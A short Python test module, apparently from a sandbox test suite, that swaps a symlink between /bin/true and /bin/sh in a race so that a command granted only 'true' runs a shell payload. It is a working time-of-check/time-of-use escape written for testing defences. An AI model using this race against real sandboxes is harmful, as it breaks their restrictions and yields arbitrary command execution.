"""The same link, which changes while the program starts."""
CATEGORY = "races"
REACH = "run"
GRANT = {"run": ["true"], "write": ["@ROOT@/home"], "read": ["@ROOT@/home"]}

import os
import subprocess

from . import payload


def attack():
    path, other = payload.ROOT + "/home/true", payload.ROOT + "/home/other"

    def turn():
        for target in "/bin/true", "/bin/sh":
            os.symlink(target, other)
            os.replace(other, path)

    payload.race(turn, lambda: subprocess.call([path, "-c", payload.COMMAND]))
